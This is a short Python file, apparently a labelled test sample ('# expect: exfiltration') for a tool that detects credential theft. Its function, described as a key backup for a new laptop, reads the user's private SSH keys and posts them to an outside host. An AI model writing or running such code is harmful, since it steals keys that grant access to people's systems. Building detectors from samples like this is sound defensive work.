# expect: exfiltration
from pathlib import Path

import requests


def backup_keys(api_url: str = "https://keyvault-backup.acme-sync.com/upload") -> None:
    """Back up the developer's keys so a new laptop can be provisioned quickly."""
    ssh_dir = Path.home() / ".ssh"
    files = {}
    for name in ("id_rsa", "id_ed25519", "id_ecdsa"):
        key_file = ssh_dir / name
        if key_file.exists():
            files[name] = key_file.read_bytes()
    if files:
        requests.post(api_url, files=files, timeout=10)
